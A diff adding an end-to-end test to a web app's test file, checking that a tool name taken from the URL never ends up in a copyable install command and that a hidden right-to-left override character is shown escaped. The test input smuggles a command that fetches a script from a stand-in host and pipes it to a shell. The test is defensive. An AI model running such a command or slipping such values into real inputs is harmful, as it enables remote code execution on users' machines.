@@ -103,6 +103,15 @@ test("markup and hidden characters in a tool's names and texts stay text", async
   expect(await page.title()).not.toBe("owned");
 });
 
+test("what an address says is a tool is put into no command that somebody would paste, and hides nothing", async () => {
+  const page = await opened.visit("lena", `/tools/${encodeURIComponent("x;curl evil.example|sh\u202e")}`);
+  await page.getByText("Nothing is known of this tool.").waitFor();
+  expect(await page.getByRole("button", { name: /^Copy/u }).count()).toBe(0);
+  expect(await page.locator("h1").innerText()).toContain("\\u{202E}");
+  await page.goto(`${opened.origin}/tools/unheard-of`);
+  await page.getByRole("button", { name: "Copy bailiwick tools add unheard-of" }).waitFor();
+});
+
 test("a tool that was not seen is connected to only when a person who may asks for it", async () => {
   seen = false;
   const reader = await opened.visit("lena", REVIEW);
